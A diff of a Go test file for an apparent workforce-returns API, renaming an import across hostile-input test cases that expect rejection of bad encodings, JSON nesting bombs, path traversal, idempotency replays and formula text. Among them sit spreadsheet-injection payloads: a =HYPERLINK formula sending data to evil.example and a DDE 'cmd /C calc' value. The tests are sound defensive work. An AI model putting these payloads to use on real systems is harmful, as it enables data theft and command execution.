@@ -14,7 +14,7 @@ import (
 	"testing"
 
 	"github.com/ddat-workforce/returns/infra/kit/localclient"
-	"github.com/ddat-workforce/returns/shared/apigw"
+	"github.com/ddat-workforce/returns/shared/httpapi"
 	"github.com/ddat-workforce/returns/shared/testsupport/sample"
 	"github.com/ddat-workforce/returns/shared/workforce"
 )
@@ -551,7 +551,7 @@ func hostileCases(t *testing.T, base *hostileEnv) []hostileCase {
 			status: 422, code: workforce.EInvalid, absent: "root:"},
 
 		// Content types and encodings.
-		{name: "empty JSON body", contentType: apigw.ContentTypeJSON, status: 400, code: workforce.EBadRequest, message: "no body"},
+		{name: "empty JSON body", contentType: httpapi.ContentTypeJSON, status: 400, code: workforce.EBadRequest, message: "no body"},
 		{name: "empty workbook body", contentType: xlsxType, status: 400, code: workforce.EBadRequest, message: "no body"},
 		{name: "no content type", body: valid, status: 415, code: workforce.EUnsupported, message: "Content-Type"},
 		{name: "PDF", contentType: "application/pdf", body: func(*hostileEnv) []byte { return []byte("%PDF-1.7\n%\xe2\xe3") },
@@ -568,10 +568,10 @@ func hostileCases(t *testing.T, base *hostileEnv) []hostileCase {
 			status: 422, code: "invalid_encoding"},
 		{name: "JSON sent as a workbook", contentType: xlsxType, body: func(e *hostileEnv) []byte { return jsonOf(e.values) },
 			status: 415, code: workforce.EUnsupported, message: "not an Excel workbook"},
-		{name: "CSV sent as JSON", contentType: apigw.ContentTypeJSON, body: valid, status: 422, code: "bad_json"},
+		{name: "CSV sent as JSON", contentType: httpapi.ContentTypeJSON, body: valid, status: 422, code: "bad_json"},
 		{name: "gzip Content-Encoding", contentType: "text/csv", body: func(e *hostileEnv) []byte { return gzipped(csvOf(e.values)) },
 			headers: map[string]string{"Content-Encoding": "gzip"}, status: 415, code: workforce.EUnsupported, message: "encod"},
-		{name: "br Content-Encoding on JSON", contentType: apigw.ContentTypeJSON, body: func(e *hostileEnv) []byte { return jsonOf(e.values) },
+		{name: "br Content-Encoding on JSON", contentType: httpapi.ContentTypeJSON, body: func(e *hostileEnv) []byte { return jsonOf(e.values) },
 			headers: map[string]string{"Content-Encoding": "br"}, status: 415, code: workforce.EUnsupported, message: "encod"},
 		{name: "4,000-character Content-Type parameter on a valid return", fresh: true,
 			contentType: "text/csv; x=" + long, body: valid, status: 201,
@@ -640,19 +640,19 @@ func hostileCases(t *testing.T, base *hostileEnv) []hostileCase {
 			body: func(e *hostileEnv) []byte { return csvOf(e.with(map[string]string{"notes": "a\xc0\xafb"})) }, status: 422, code: "invalid_encoding"},
 		{name: "UTF-8-encoded surrogate in a name", contentType: "text/csv",
 			body: func(e *hostileEnv) []byte { return csvOf(e.with(map[string]string{"contact_name": "x\xed\xa0\x80"})) }, status: 422, code: "invalid_encoding"},
-		{name: "Latin-1 in JSON", contentType: apigw.ContentTypeJSON,
+		{name: "Latin-1 in JSON", contentType: httpapi.ContentTypeJSON,
 			body: func(e *hostileEnv) []byte { return jsonWith(e.values, `"notes":"caf`+"\xe9"+`"`) }, status: 422, code: "invalid_encoding"},
 
 		// Control characters and formula-like text.
 		{name: "NUL in notes", contentType: "text/csv",
 			body: func(e *hostileEnv) []byte { return csvOf(e.with(map[string]string{"notes": "before\x00after"})) }, status: 422, code: "control_character", message: "NUL"},
-		{name: "ESC in contact_name", contentType: apigw.ContentTypeJSON,
+		{name: "ESC in contact_name", contentType: httpapi.ContentTypeJSON,
 			body: func(e *hostileEnv) []byte { return jsonOf(e.with(map[string]string{"contact_name": "\x1b[2JAda"})) }, status: 422, code: "control_character", message: "escape"},
 		{name: "=HYPERLINK in notes", contentType: "text/csv",
 			body: func(e *hostileEnv) []byte {
 				return csvOf(e.with(map[string]string{"notes": `=HYPERLINK("https://evil.example/?d="&A1,"Click")`}))
 			}, status: 422, code: "formula_like", message: "formula"},
-		{name: "@ formula in contact_name", contentType: apigw.ContentTypeJSON,
+		{name: "@ formula in contact_name", contentType: httpapi.ContentTypeJSON,
 			body: func(e *hostileEnv) []byte {
 				return jsonOf(e.with(map[string]string{"contact_name": "@SUM(1+1)*cmd|' /C calc'!A0"}))
 			},
@@ -679,7 +679,7 @@ func hostileCases(t *testing.T, base *hostileEnv) []hostileCase {
 					t.Errorf("headcount stored as %v, want 70000", v.Values["headcount"])
 				}
 			}},
-		{name: "7.3144e4 as a JSON number", contentType: apigw.ContentTypeJSON,
+		{name: "7.3144e4 as a JSON number", contentType: httpapi.ContentTypeJSON,
 			body: func(e *hostileEnv) []byte { return jsonOf(e.with(map[string]string{"headcount": "7.3144e4"})) }, status: 422, code: "scientific_notation"},
 		{name: "hexadecimal count", contentType: "text/csv",
 			body: func(e *hostileEnv) []byte { return csvOf(e.with(map[string]string{"ddat_entrants_total": "0x1F"})) }, status: 422, code: "not_a_number"},
@@ -687,34 +687,34 @@ func hostileCases(t *testing.T, base *hostileEnv) []hostileCase {
 			body: func(e *hostileEnv) []byte {
 				return csvOf(e.with(map[string]string{"headcount": "99999999999999999999999999"}))
 			}, status: 422, code: "too_large"},
-		{name: "1e999 as a JSON number", contentType: apigw.ContentTypeJSON,
+		{name: "1e999 as a JSON number", contentType: httpapi.ContentTypeJSON,
 			body: func(e *hostileEnv) []byte { return jsonOf(e.with(map[string]string{"headcount": "1e999"})) }, status: 422},
-		{name: "a number of 100,000 digits", contentType: apigw.ContentTypeJSON,
+		{name: "a number of 100,000 digits", contentType: httpapi.ContentTypeJSON,
 			body: func(e *hostileEnv) []byte {
 				return jsonOf(e.with(map[string]string{"headcount": strings.Repeat("9", 100_000)}))
 			},
 			status: 422, absent: strings.Repeat("9", 10_000)},
-		{name: "NaN in JSON", contentType: apigw.ContentTypeJSON,
+		{name: "NaN in JSON", contentType: httpapi.ContentTypeJSON,
 			body: func(e *hostileEnv) []byte { return jsonWith(e.with(nil), `"fte":NaN`) }, status: 422, code: "bad_json"},
 
 		// JSON structure.
-		{name: "JSON nesting bomb in a value", contentType: apigw.ContentTypeJSON,
+		{name: "JSON nesting bomb in a value", contentType: httpapi.ContentTypeJSON,
 			body: func(e *hostileEnv) []byte {
 				return jsonWith(e.values, `"notes":`+strings.Repeat("[", 100_000)+strings.Repeat("]", 100_000))
 			}, status: 422, code: "too_deep", message: "nested more than"},
-		{name: "JSON nesting bomb at the top", contentType: apigw.ContentTypeJSON,
+		{name: "JSON nesting bomb at the top", contentType: httpapi.ContentTypeJSON,
 			body: func(*hostileEnv) []byte { return []byte(strings.Repeat("[", 1_000_000)) }, status: 422, code: "bad_json"},
-		{name: "duplicate JSON keys", contentType: apigw.ContentTypeJSON,
+		{name: "duplicate JSON keys", contentType: httpapi.ContentTypeJSON,
 			body: func(e *hostileEnv) []byte { return jsonWith(e.values, `"headcount":1`) }, status: 422, code: "duplicate_field"},
-		{name: "JSON with 100,000 unknown keys", contentType: apigw.ContentTypeJSON,
+		{name: "JSON with 100,000 unknown keys", contentType: httpapi.ContentTypeJSON,
 			body:   func(e *hostileEnv) []byte { return jsonWith(e.values, unknownMembers(100_000)) },
 			status: 422, code: "too_many_fields", message: "more than 200 properties"},
-		{name: "3 MB JSON key", contentType: apigw.ContentTypeJSON,
+		{name: "3 MB JSON key", contentType: httpapi.ContentTypeJSON,
 			body:   func(e *hostileEnv) []byte { return jsonWith(e.values, `"`+big+`":1`) },
 			status: 422, code: "unknown_field", absent: big[:100_000]},
-		{name: "JSON array instead of an object", contentType: apigw.ContentTypeJSON,
+		{name: "JSON array instead of an object", contentType: httpapi.ContentTypeJSON,
 			body: func(e *hostileEnv) []byte { return []byte("[" + string(jsonOf(e.values)) + "]") }, status: 422, code: "bad_json"},
-		{name: "a second JSON object after the first", contentType: apigw.ContentTypeJSON,
+		{name: "a second JSON object after the first", contentType: httpapi.ContentTypeJSON,
 			body: func(e *hostileEnv) []byte { return append(jsonOf(e.values), jsonOf(e.values)...) }, status: 422, code: "bad_json"},
 
 		// Path parameters and periods.
@@ -733,7 +733,7 @@ func hostileCases(t *testing.T, base *hostileEnv) []hostileCase {
 		{name: "month 13", method: "GET", path: "/rollups/2025-13", token: leader, status: 400, code: "invalid_month"},
 		{name: "path traversal in the report edition", method: "GET", path: "/reports/2025-07?edition=..%2F..%2Fmanagement&format=xlsx",
 			token: leader, status: 400, code: workforce.EBadRequest},
-		{name: "calendar quarter in the body", contentType: apigw.ContentTypeJSON,
+		{name: "calendar quarter in the body", contentType: httpapi.ContentTypeJSON,
 			body: func(e *hostileEnv) []byte { return jsonOf(e.with(map[string]string{"period": "2025 Q1"})) }, status: 422, code: "invalid_period",
 			message: "-Q"},
 		{name: "quarter 5", contentType: "text/csv",
@@ -755,22 +755,22 @@ func hostileCases(t *testing.T, base *hostileEnv) []hostileCase {
 			headers: map[string]string{"Idempotency-Key": "my retry key"}, status: 400, code: workforce.EBadRequest, message: "Idempotency-Key"},
 		{name: "Idempotency-Key with non-ASCII", contentType: "text/csv", body: valid,
 			headers: map[string]string{"Idempotency-Key": "clé-1"}, status: 400, code: workforce.EBadRequest, message: "Idempotency-Key"},
-		{name: "same Idempotency-Key, different body", fresh: true, contentType: apigw.ContentTypeJSON,
+		{name: "same Idempotency-Key, different body", fresh: true, contentType: httpapi.ContentTypeJSON,
 			headers: map[string]string{"Idempotency-Key": "same-key-" + run},
 			before: func(e *hostileEnv) {
-				r, _ := e.h.submit(e.submitter, apigw.ContentTypeJSON, jsonOf(e.values), map[string]string{"Idempotency-Key": "same-key-" + run})
+				r, _ := e.h.submit(e.submitter, httpapi.ContentTypeJSON, jsonOf(e.values), map[string]string{"Idempotency-Key": "same-key-" + run})
 				mustStatus(e.h.t, r, 201)
 			},
 			body:   func(e *hostileEnv) []byte { return jsonOf(e.with(map[string]string{"notes": "changed"})) },
 			status: 409, code: workforce.EConflict},
-		{name: "replayed Idempotency-Key with another organisation's claim", fresh: true, contentType: apigw.ContentTypeJSON,
+		{name: "replayed Idempotency-Key with another organisation's claim", fresh: true, contentType: httpapi.ContentTypeJSON,
 			headers: map[string]string{"Idempotency-Key": "replay-" + run},
 			before: func(e *hostileEnv) {
 				tok, err := e.h.client.Token("replaying-user-"+run, e.org.Code, []string{"submitter"}, nil)
 				if err != nil {
 					e.h.t.Fatal(err)
 				}
-				r, _ := e.h.submit(tok, apigw.ContentTypeJSON, jsonOf(e.values), map[string]string{"Idempotency-Key": "replay-" + run})
+				r, _ := e.h.submit(tok, httpapi.ContentTypeJSON, jsonOf(e.values), map[string]string{"Idempotency-Key": "replay-" + run})
 				mustStatus(e.h.t, r, 201)
 			},
 			token: func(e *hostileEnv) string {
@@ -779,14 +779,14 @@ func hostileCases(t *testing.T, base *hostileEnv) []hostileCase {
 			},
 			body:   func(e *hostileEnv) []byte { return jsonOf(e.values) },
 			status: 403, code: workforce.EForbidden, absent: "submission_id"},
-		{name: "subject and key that would collide with another's scope", fresh: true, contentType: apigw.ContentTypeJSON,
+		{name: "subject and key that would collide with another's scope", fresh: true, contentType: httpapi.ContentTypeJSON,
 			headers: map[string]string{"Idempotency-Key": "b#c" + run},
 			before: func(e *hostileEnv) {
 				tok, err := e.h.client.Token(run+"#b", e.org.Code, []string{"submitter"}, nil)
 				if err != nil {
 					e.h.t.Fatal(err)
 				}
-				r, _ := e.h.submit(tok, apigw.ContentTypeJSON, jsonOf(e.values), map[string]string{"Idempotency-Key": "c" + run})
+				r, _ := e.h.submit(tok, httpapi.ContentTypeJSON, jsonOf(e.values), map[string]string{"Idempotency-Key": "c" + run})
 				mustStatus(e.h.t, r, 201)
 			},
 			token: func(e *hostileEnv) string {
@@ -813,7 +813,7 @@ func hostileCases(t *testing.T, base *hostileEnv) []hostileCase {
 			status: 403, code: workforce.EForbidden},
 		{name: "submitter without an organisation reads the register", method: "GET", path: "/organisations", token: noOrg,
 			status: 403, code: workforce.EForbidden},
-		{name: "another organisation in the body", contentType: apigw.ContentTypeJSON,
+		{name: "another organisation in the body", contentType: httpapi.ContentTypeJSON,
 			body: func(e *hostileEnv) []byte { return jsonOf(sampleFor(e.other, q1)) }, status: 403, code: workforce.EForbidden},
 		{name: "another organisation in the body, lower case", contentType: "text/csv",
 			body: func(e *hostileEnv) []byte {
